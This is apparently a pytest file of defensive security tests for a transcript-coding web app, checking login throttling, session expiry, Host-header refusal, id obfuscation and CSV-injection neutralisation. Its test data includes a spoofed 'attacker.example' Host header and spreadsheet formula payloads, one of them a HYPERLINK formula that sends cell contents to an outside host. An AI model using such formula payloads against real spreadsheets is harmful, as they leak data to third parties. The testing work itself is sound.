"""The web app probed as an outsider and as a curious coder would, on SQLite and PostgreSQL.

Expected behaviour comes from the issue's threat list and the published rules it cites:
OWASP's CSV-injection guidance (cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return are neutralised with a leading quote), RFC 9110 (a request for an unknown Host is
refused), and blind double-coding (a coder learns nothing about others' work).
"""

from __future__ import annotations

import csv
import io
import re
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import httpx
import pytest
from fastapi.testclient import TestClient

from coding.web.accounts import PasswordHashing
from coding.web.ids import MAX_PUBLIC_ID, IdCipher
from tests.coding.store.helpers import FAST_HASHER
from tests.coding.web.conftest import Session, login
from tests.coding.web.helpers import PASSWORDS, TRANSCRIPTS, span
from tests.coding.web.server import running

T01 = TRANSCRIPTS[0].text


def _add(session, words, code="stigma", transcript="T01", text=T01):
    start, end = span(text, words)
    return session.write(
        "POST",
        f"/api/transcripts/{transcript}/codings",
        {"code_id": code, "start": start, "end": end},
    )


def _http_login(base: str, name: str, password: str) -> int:
    with httpx.Client(base_url=base, timeout=60) as client:
        page = client.get("/login").text
        token = re.search(r'name="login_csrf" value="([^"]+)"', page).group(1)
        return client.post(
            "/login", data={"name": name, "password": password, "login_csrf": token}
        ).status_code


# -- logging in ---------------------------------------------------------------------------


def test_twelve_parallel_guesses_get_at_most_five_tries(make_app, sqlite_url):
    """Twelve wrong passwords sent at once: at most five reach the password check; the
    others, and then the right password, are refused with 429 (and Retry-After)."""
    app, store = make_app(sqlite_url)
    with running(app) as base:
        with ThreadPoolExecutor(12) as pool:
            codes = list(
                pool.map(lambda _: _http_login(base, "coder_a", "a wrong guess!"), range(12))
            )
        assert codes.count(401) <= 5 and codes.count(429) >= 7, codes
        assert set(codes) <= {401, 429}
        assert _http_login(base, "coder_a", PASSWORDS["coder_a"]) == 429
        assert _http_login(base, "coder_b", PASSWORDS["coder_b"]) == 303  # others unaffected
    failed = store.audit_log()
    failed = failed[failed["action"] == "login_failed"]
    assert len(failed) == codes.count(401)
    assert set(failed["target"]) == {"user:coder_a"}
    assert failed["after"].iloc[0]["address"] == "127.0.0.1"


def test_one_address_past_its_limit_is_slowed_not_locked(make_app, sqlite_url):
    """A team behind one NAT: after 8 failures from its address (of any account), a correct
    password for an account that is not itself throttled still gets in; failures go on
    being counted per account, so a throttled account stays refused."""
    from coding.web.accounts import LoginThrottle

    app, store = make_app(sqlite_url, login_throttle=LoginThrottle(per_account=5, per_address=8))
    client = TestClient(app)
    names = [f"guess{k}" for k in range(10)]  # names that do not exist cost a hash too
    codes = [login(client, name, "a wrong guess!").status_code for name in names]
    assert codes == [401] * 10  # one at a time: slowed, not locked
    assert login(TestClient(app), "coder_a").status_code == 303
    for _ in range(5):
        assert login(client, "coder_b", "a wrong guess!").status_code == 401
    refused = login(client, "coder_b")
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
    assert login(TestClient(app), "lead1").status_code == 303


def test_past_the_address_limit_only_one_check_is_in_flight():
    from coding.web.accounts import LoginThrottle

    throttle = LoginThrottle(per_account=5, per_address=3)
    first = [throttle.reserve(f"name{k}", "10.0.0.9") for k in range(3)]
    assert all(r is not None for r in first)
    for r in first:
        throttle.settle(r, succeeded=False)
    lane = throttle.reserve("coder_a", "10.0.0.9")
    assert lane is not None
    assert throttle.reserve("coder_b", "10.0.0.9") is None  # one in flight: wait a moment
    throttle.settle(lane, succeeded=True)
    # coder_a logged in from here: skips the lane even while another check is in flight
    other = throttle.reserve("coder_b", "10.0.0.9")
    assert other is not None and throttle.reserve("coder_a", "10.0.0.9") is not None


def test_refused_logins_are_audited_without_flooding_the_log(make_app, sqlite_url):
    app, store = make_app(sqlite_url)
    client = TestClient(app)
    for _ in range(5):
        assert login(client, "coder_a", "a wrong guess!").status_code == 401
    for _ in range(40):
        assert login(client, "coder_a", "another guess").status_code == 429
    log = store.audit_log()
    refused = log[log["action"] == "login_refused"]
    assert len(refused) == 1  # one entry per address per minute
    assert refused["target"].iloc[0] == "user:coder_a"
    assert refused["after"].iloc[0] == {"address": "testclient", "refused_since_last_entry": 1}
    assert app.state.ctx.throttle.refusal_to_audit("testclient") == 0  # 39 kept counting
    assert app.state.ctx.throttle._refusals["testclient"][0] == 39


def test_a_success_clears_the_account_failures(make_app, sqlite_url):
    app, _ = make_app(sqlite_url)
    client = TestClient(app)
    for _ in range(4):
        assert login(client, "coder_a", "a wrong guess!").status_code == 401
    assert login(client, "coder_a").status_code == 303
    for _ in range(4):
        assert login(TestClient(app), "coder_a", "a wrong guess!").status_code == 401


def test_relogin_from_a_page_is_locked_to_the_page_user(make_app, any_url):
    """The "session expired" dialog sends the page's user: a different account is refused
    (409, no session, no password check) so the pending request is never replayed as them."""
    app, store = make_app(any_url)
    client = TestClient(app)
    page = client.get("/login")
    token = re.search(r'name="login_csrf" value="([^"]+)"', page.text).group(1)
    form = {"name": "lead1", "password": PASSWORDS["lead1"], "login_csrf": token}
    refused = client.post("/login", data={**form, "page_user": "coder_a"}, follow_redirects=False)
    assert refused.status_code == 409 and "belongs to coder_a" in refused.text
    assert "dyadlab_session" not in refused.cookies and client.get("/api/me").status_code == 401
    assert (store.audit_log()["action"] == "login_failed").sum() == 0
    token = re.search(r'name="login_csrf" value="([^"]+)"', refused.text).group(1)
    form = {"name": "coder_a", "password": PASSWORDS["coder_a"], "login_csrf": token}
    same = client.post("/login", data={**form, "page_user": "coder_a"}, follow_redirects=False)
    assert same.status_code == 303 and client.get("/api/me").json()["name"] == "coder_a"


def test_concurrent_password_hashing_is_bounded():
    """Twenty verifications at once never run more than ``max_concurrent`` argon2 hashes."""
    running_now, peak, lock = 0, 0, threading.Lock()

    class Counting(type(FAST_HASHER)):
        def verify(self, stored, password):
            nonlocal running_now, peak
            with lock:
                running_now += 1
                peak = max(peak, running_now)
            try:
                return super().verify(stored, password)
            finally:
                with lock:
                    running_now -= 1

    hashing = PasswordHashing(Counting(time_cost=2, memory_cost=8192, parallelism=1), 2)
    stored = hashing.hash("the right password")
    with ThreadPoolExecutor(20) as pool:
        results = list(pool.map(lambda k: hashing.verify(stored, f"guess {k}"), range(20)))
    assert not any(results) and hashing.verify(stored, "the right password")
    assert peak == 2


def test_sessions_have_an_absolute_lifetime(make_app, sqlite_url):
    app, _ = make_app(sqlite_url, session_max_age=timedelta(milliseconds=50))
    session = Session(app, "coder_a")
    import time

    time.sleep(0.1)  # active or not: the session is over
    expired = session.get("/api/me")
    assert expired.status_code == 401 and expired.json()["expired"] is True


def test_unknown_host_header_is_refused_with_security_headers(web):
    app, _ = web
    client = TestClient(app)
    refused = client.get("/login", headers={"host": "attacker.example"})
    assert refused.status_code == 400 and "Host" in refused.json()["error"]
    assert "default-src 'self'" in refused.headers["content-security-policy"]
    assert client.get("/login", headers={"host": "127.0.0.1:8000"}).status_code == 200


# -- ids, ranges and errors ---------------------------------------------------------------


@pytest.mark.parametrize(
    "method, url, body",
    [
        ("PATCH", "/api/codings/18446744073709551616", {"version": 1}),  # 2**64
        ("PATCH", "/api/codings/-1", {"version": 1}),
        ("DELETE", "/api/codings/5?version=99999999999999999999", None),
        ("PATCH", "/api/codings/5", {"version": 2**63}),
        ("POST", "/api/suggestions/9223372036854775808/accept", None),
        ("GET", "/api/audit?limit=99999999999999999999", None),
    ],
)
def test_out_of_range_numbers_are_refused_with_headers(sessions_any, method, url, body):
    users, _ = sessions_any
    session = users["lead1"] if url.startswith("/api/audit") else users["coder_a"]
    response = session.write(method, url, body) if method != "GET" else session.get(url)
    assert response.status_code in (404, 422), response.text
    assert "error" in response.json()
    assert response.headers["x-frame-options"] == "DENY"


def test_an_unexpected_error_is_a_plain_500_with_headers(sessions, monkeypatch):
    users, store = sessions
    monkeypatch.setattr(store, "memo_record", lambda *a: 1 / 0)
    response = users["coder_a"].get("/api/transcripts/T01")
    assert response.status_code == 500 and "ZeroDivision" not in response.text
    assert "default-src 'self'" in response.headers["content-security-policy"]


def test_coding_ids_do_not_count_the_study(sessions_any):
    """Consecutive codings do not get consecutive ids: a coder cannot tell from her ids how
    many codings others made in between."""
    users, _ = sessions_any
    a, b = users["coder_a"], users["coder_b"]
    first = _add(a, "Hard.").json()["id"]
    for words in ("They judged me", "peer coach", "the baby"):
        _add(b, words)
    second = _add(a, "methadone").json()["id"]
    ids = users.app.state.ctx.ids
    assert ids.decode(second) - ids.decode(first) == 4  # in the database they are sequential
    assert abs(second - first) > 1000  # the browser sees no sequence
    assert 0 <= first <= MAX_PUBLIC_ID and 0 <= second <= MAX_PUBLIC_ID


def test_id_permutation_round_trips_and_refuses_outsiders():
    ids = IdCipher(b"k" * 32)
    assert [ids.decode(ids.encode(n)) for n in (0, 1, 2, 10**6, MAX_PUBLIC_ID)] == [
        0,
        1,
        2,
        10**6,
        MAX_PUBLIC_ID,
    ]
    assert len({ids.encode(n) for n in range(5000)}) == 5000
    assert ids.decode(MAX_PUBLIC_ID + 1) is None and ids.decode(-1) is None
    assert IdCipher(b"j" * 32).encode(7) != ids.encode(7)


def test_a_coder_sees_only_her_own_progress(sessions_any):
    users, _ = sessions_any
    users["coder_b"].write("POST", "/api/transcripts/T01/done", {"done": True})
    listed = users["coder_a"].get("/api/transcripts").json()
    assert listed and all("coders" not in row and "done" not in row for row in listed)
    assert {row["my_done"] for row in listed} == {False}
    lead = users["lead1"].get("/api/transcripts").json()
    t01 = next(row for row in lead if row["transcript_id"] == "T01")
    assert t01["coders"] == ["coder_a", "coder_b"] and t01["done"] == ["coder_b"]


def test_the_suggestion_endpoint_answers_every_refusal_alike(make_app, sqlite_url):
    app, store = make_app(sqlite_url)
    users_a = Session(app, "coder_a")
    store.register_transcripts({"T09": "P09: hidden from coder_a."})  # not assigned to her
    ids = app.state.ctx.ids
    hidden = ids.encode(store.add_coding("T09", "auto", "stigma", 5, 11).id)
    disabled = ids.encode(store.add_coding("T01", "auto", "stigma", *span(T01, "judged")).id)
    not_auto = ids.encode(store.add_coding("T01", "coder_b", "stigma", 0, 5).id)
    missing = ids.encode(999_999)
    answers = {
        str(pid): users_a.write("POST", f"/api/suggestions/{pid}/accept")
        for pid in (hidden, disabled, not_auto, missing)
    }
    assert {r.status_code for r in answers.values()} == {404}
    bodies = {r.json()["error"].replace(pid, "ID") for pid, r in answers.items()}
    assert bodies == {"no suggestion ID"}


# -- exports ------------------------------------------------------------------------------


def _rows(text: str) -> list[dict[str, str]]:
    """CSV rows as the csv module (RFC 4180) reads them, line breaks inside cells kept."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]


def test_csv_exports_neutralise_formulas(sessions):
    users, store = sessions
    a, lead = users["coder_a"], users["lead1"]
    made = _add(a, "They judged me").json()  # one memo typed through the API
    a.write("PATCH", f"/api/codings/{made['id']}", {"version": 1, "memo": FORMULAS[0]})
    for memo in FORMULAS[1:]:
        store.add_coding("T01", "coder_a", "stigma", *span(T01, "They judged me"), memo=memo)
    store.set_memo("T01", "coder_a", "=1+1 is what she said")
    exported = _rows(lead.get("/api/export/codings.csv").text)
    assert sorted(row["memo"] for row in exported) == sorted("'" + m for m in FORMULAS)
    assert {row["start"] for row in exported} == {"44"}  # numbers untouched
    memos = _rows(lead.get("/api/export/memos.csv").text)
    assert [row["memo"] for row in memos] == ["'=1+1 is what she said"]
    # the REFI-QDA export keeps them exact: test_commands.py, on a real study's codebook


def test_refused_attempts_with_new_names_do_not_grow_the_throttle():
    from coding.web.accounts import LoginThrottle

    throttle = LoginThrottle(per_account=5, per_address=3)
    admitted = [throttle.reserve(f"name{k}", "10.0.0.1") for k in range(1000)]
    assert sum(r is not None for r in admitted) == 4  # 3, then one at a time (none settled)
    assert len(throttle._accounts) == 4 and len(throttle._addresses) == 1
    assert len(throttle._refusals) == 1
